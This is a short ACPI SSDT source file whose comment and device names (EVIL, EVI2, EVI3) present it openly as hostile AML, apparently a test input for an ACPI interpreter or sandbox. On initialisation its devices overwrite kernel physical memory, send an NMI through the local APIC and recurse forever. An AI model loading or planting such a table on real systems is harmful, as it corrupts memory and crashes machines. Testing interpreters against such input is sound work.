// SPDX-License-Identifier: MIT
// AML that writes to RAM of the kernel and of anybody, sends an NMI by the local APIC, and calls itself for ever.
DefinitionBlock ("", "SSDT", 2, "PURLIN", "RAM", 1)
{
    Scope (\_SB)
    {
        OperationRegion (KERN, SystemMemory, 0x100000, 0x100000)
        Field (KERN, DWordAcc, NoLock, Preserve) { KER0, 32 }
        OperationRegion (HIGH, SystemMemory, 0x10000000, 0x1000)
        Field (HIGH, DWordAcc, NoLock, Preserve) { HIG0, 32 }
        OperationRegion (LAPI, SystemMemory, 0xfee00000, 0x1000)
        Field (LAPI, DWordAcc, NoLock, Preserve) { Offset (0x300), ICR0, 32 }
        Device (EVIL)
        {
            Name (_HID, "PURL0001")
            Method (_INI) { KER0 = 0xffffffff HIG0 = 0xffffffff }
        }
        Device (EVI2)
        {
            Name (_HID, "PURL0002")
            Method (_INI) { ICR0 = 0x000c0500 }
        }
        Device (EVI3)
        {
            Name (_HID, "PURL0003")
            Method (REC, 1) { Return (REC (Arg0 + 1)) }
            Method (_INI) { REC (0) }
        }
    }
}
